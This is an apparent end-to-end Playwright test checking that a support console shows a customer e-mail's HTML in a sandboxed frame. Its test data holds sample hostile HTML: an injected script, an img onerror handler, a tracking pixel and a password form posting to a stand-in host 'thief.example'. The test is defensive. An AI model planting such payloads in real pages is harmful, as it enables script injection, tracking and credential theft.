"""An e-mail's own HTML is shown in a frame that runs nothing and reaches nothing."""

import re

import pytest
from playwright.async_api import Page, expect

from rapport.kit.html import sanitise
from rapport.workflows.customer_writes import customer_writes
from tests.e2e.console.conftest import World, words

HOSTILE = (
    '<p>Dear team, the <b>invoice</b> is wrong.</p><script>parent.document.title = "taken"</script>'
    '<img src="x" onerror="parent.document.title = \'taken\'"><img src="https://tracker.example/pixel.png">'
    '<form action="https://thief.example"><input name="password"></form>'
)


@pytest.mark.threat("M16", "X04")
async def test_html_of_a_mail_runs_nothing(page: Page, world: World) -> None:
    """Text first; the HTML on request, sandboxed; scripts, trackers and forms do nothing."""
    async with world.served.database.transaction(world.made.id) as tx:
        mail = words(
            world.made, world.contact, "Dear team, the invoice is wrong.", channel="email", html=sanitise(HOSTILE).html
        )
        conversation = (await customer_writes(tx, mail)).conversation_id
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await page.goto(world.address(f"/c/{conversation}"))
    await page.get_by_role("button", name="Show as it was sent").click()
    frame = page.locator("iframe")
    await expect(frame).to_have_attribute("sandbox", "allow-popups allow-popups-to-escape-sandbox")
    inside = page.frame_locator("iframe")
    await expect(inside.locator("b")).to_have_text("invoice")
    assert "taken" not in await page.title()
    assert await inside.locator("script, form, input").count() == 0
    assert [url for url in asked if not url.startswith(world.served.url)] == []
    await page.get_by_role("button", name="Load pictures").click()
    await expect(frame).to_have_attribute("src", re.compile(r"remote=true$"))
    await expect(inside.locator("b")).to_have_text("invoice")
    assert [url for url in asked if not url.startswith(world.served.url)] == []
    await page.get_by_role("button", name="Show as text").click()
    await expect(frame).to_have_count(0)
